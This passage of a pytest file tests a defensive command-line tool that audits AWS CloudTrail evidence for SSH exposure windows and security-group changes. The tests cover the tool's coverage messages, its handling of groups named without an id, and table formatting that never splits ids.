        result = CliRunner().invoke(main, [*command, "--evidence", evidence, *far], env={"COLUMNS": "400"})
        assert said in result.stderr.splitlines(), command
    result = CliRunner().invoke(main, ["ssh-exposure", "--evidence", evidence, *far, "--fail-on-open"],
                                env={"COLUMNS": "400"})
    assert result.exit_code == 4
    assert result.stderr.splitlines()[-1] == "the evidence cannot show what is open: the range asked lies outside it"
    inside = run("sg-changes", "--evidence", evidence, "--since", "2026-11-03", "--until", "2026-11-04")
    assert "lies outside it" not in inside.stderr
    assert "not covered" not in inside.stderr


def test_a_range_the_evidence_covers_in_part_says_which_part_is_not_covered(demo):
    evidence = str(demo / "evidence")
    covers = "the evidence covers 2026-11-02 00:00 to 2026-11-04 23:59 (UTC); of the range asked, "
    before = CliRunner().invoke(main, ["ssh-exposure", "--evidence", evidence, "--since", "2026-11-01",
                                       "--fail-on-open"], env={"COLUMNS": "400"})
    assert f"{covers}2026-11-01 00:00 to 2026-11-02 00:00 is not covered: nothing is known of that part" \
        in before.stderr.splitlines()
    assert before.exit_code == 3  # the part covered answers: a window is still open
    both = CliRunner().invoke(main, ["sg-changes", "--evidence", evidence, "--since", "2026-11-01T12:00",
                                     "--until", "2026-11-06", "--tz", "Asia/Tokyo"], env={"COLUMNS": "400"})
    assert ("the evidence covers 2026-11-02 09:00 to 2026-11-05 08:59 (Asia/Tokyo); of the range asked, "
            "2026-11-01 12:00 to 2026-11-02 09:00 and 2026-11-05 08:59 to 2026-11-06 00:00 are not covered: "
            "nothing is known of that part") in both.stderr.splitlines()


def test_a_principal_acting_outside_the_range_is_said_with_when(demo):
    result = run("activity", "--evidence", str(demo / "evidence"), "--principal", "mallory",
                 "--since", "2027-01-01", "--until", "2027-01-02")
    rows = json.loads(run("activity", "--evidence", str(demo / "evidence"), "--principal", "mallory",
                          "--format", "json").stdout)
    first, last = (min(r["event_time"] for r in rows), max(r["event_time"] for r in rows))
    assert result.stdout == (f"(none: 'mallory' has {len(rows)} events, none in the range; the first at "
                             f"{first[:10]} {first[11:19]}, the last at {last[:10]} {last[11:19]} (UTC))\n")


def test_a_call_naming_its_group_by_name_alone_keeps_the_window_attributed_and_says_why(tmp_path):
    """A default VPC's authorize by `groupName` has no group id in its record: the window had
    group_id null and no word on it, and a narrow table, which leaves group_name out first,
    showed no group at all (issue 16)."""
    from util import event, write

    ssh = {"groupName": "launch-wizard-1", "ipPermissions": {"items": [
        {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}}
    opened = event(0, eventName="AuthorizeSecurityGroupIngress", eventTime="2026-01-01T09:00:00Z",
                   readOnly=False, requestParameters=ssh, responseElements={"_return": True})
    write(tmp_path / "AWSLogs/111111111111/CloudTrail/us-east-1/2026/01/01/f.json",
          json.dumps({"Records": [opened]}).encode())
    found = json.loads(run("ssh-exposure", "--evidence", str(tmp_path), "--format", "json").stdout)
    assert [(w["group_id"], w["group_name"], w["cidr"], w["still_open"], w["caveat"]) for w in found] == [
        (None, "launch-wizard-1", "0.0.0.0/0", True,
         "Event 00000000-0000-0000-0000-000000000000 names the group by its name launch-wizard-1 alone "
         "(a default VPC's call): the record does not hold the group's id, so the window is kept under "
         "the name.")]
    for command in ("ssh-exposure", "sg-changes"):
        table = CliRunner().invoke(main, [command, "--evidence", str(tmp_path)], env={"COLUMNS": "90"})
        assert "group_name" not in table.stdout.splitlines()[0]  # left out to fit
        cells = [line.split() for line in table.stdout.splitlines()[1:3]]
        column = 1 if command == "sg-changes" else 0  # after event_time, or first
        assert [c[column] for c in cells] == ["(name)", "launch-wizard-1"], table.stdout


def test_no_id_is_ever_split_whatever_the_width_and_zone(demo):
    """`COLUMNS=200 ... --tz Etc/GMT+12` split sg-0f000000 / 00000006 over two lines: a column with one
    value in every row is left out before an id is split, at every width."""
    fragment = re.compile(r"\b(?:sg|sgr|i|eni|pl)-[0-9a-z]+|\bA[KS]IA[0-9A-Z]+")
    for command, widths in ((["ssh-exposure"], range(60, 261, 40)), (["sg-changes"], (80, 140, 200))):
        args = [*command, "--evidence", str(demo / "evidence"), "--tz", "Etc/GMT+12"]
        ids = set(fragment.findall(run(*args, "--format", "json").stdout))
        for width in widths:
            table = CliRunner().invoke(main, args, env={"COLUMNS": str(width)})
            assert table.exit_code == 0, table.output
            shown = fragment.findall(table.stdout)
            assert shown and set(shown) <= ids, (width, set(shown) - ids)
